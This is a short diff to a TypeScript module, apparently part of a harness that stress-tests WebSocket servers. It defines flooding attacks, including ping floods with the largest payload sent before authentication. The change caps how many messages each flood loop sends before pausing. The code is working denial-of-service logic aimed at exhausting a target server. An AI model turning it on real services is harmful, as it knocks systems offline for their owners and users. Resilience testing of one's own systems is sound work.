@@ -6,6 +6,8 @@ import { keepAt, type Attack, type Target } from './target.ts';
 const RECONNECT = 200;
 /** Bytes that wait in the attacker's own connection. */
 const ENOUGH = 256 * 1024;
+/** Messages until the attackers' other connections have their turn, and the end of this one is seen. */
+const AT_ONCE = 2000;
 
 /** Pings of the greatest payload before anyone says who they are, whose pongs aren't read. */
 export const pingFloods: Attack = (target, signal, count) =>
@@ -71,7 +73,7 @@ function ended(socket: WebSocket): Promise<unknown> {
 async function flood(socket: WebSocket, send: () => void): Promise<void> {
   const isOpen = () => socket.readyState === socket.OPEN;
   while (isOpen()) {
-    while (isOpen() && socket.bufferedAmount < ENOUGH) send();
+    for (let left = AT_ONCE; left > 0 && isOpen() && socket.bufferedAmount < ENOUGH; left -= 1) send();
     await pause(5);
   }
 }
